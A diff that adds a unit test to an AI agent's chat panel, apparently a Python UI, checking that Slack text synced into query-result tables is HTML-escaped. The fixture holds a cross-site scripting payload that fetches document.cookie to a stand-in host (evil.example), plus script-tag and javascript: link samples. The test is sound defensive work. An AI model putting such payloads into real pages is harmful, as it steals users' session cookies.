@@ -212,3 +212,26 @@ def test_default_timezone_when_the_browser_says_nothing(zone: str) -> None:
     panel = ChatPanel(FakeBackend(), timezone="Europe/Berlin")
     panel.timezone_input.value = zone
     assert panel.timezone == "Europe/Berlin"
+
+
+def test_synced_text_in_result_tables_is_escaped() -> None:
+    from revtops_kernel.agent.events import TablePreview, ToolCallStarted, ToolResult
+
+    slack = '<img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)">'
+    table = TablePreview(
+        columns=["body<script>"], rows=[[slack], ["[x](javascript:1)"]], total_rows=2
+    )
+    backend = FakeBackend(
+        scripts=[
+            [
+                ToolCallStarted("t", "run_sql_query", {"sql": "SELECT body FROM activities"}),
+                ToolResult("t", "run_sql_query", ok=True, summary="2 rows <b>", table=table),
+            ]
+        ]
+    )
+    panel = ChatPanel(backend)
+    ask(panel, "What did Slack say?")
+    shown = "\n".join(html_values(panel.messages))
+    assert_inert(shown, template_tags=frozenset({"div", "details", "summary", "table", "thead",
+                                                 "tbody", "tr", "th", "td", "pre"}))  # fmt: skip
+    assert "&lt;img src=x onerror=" in shown and "body&lt;script&gt;" in shown
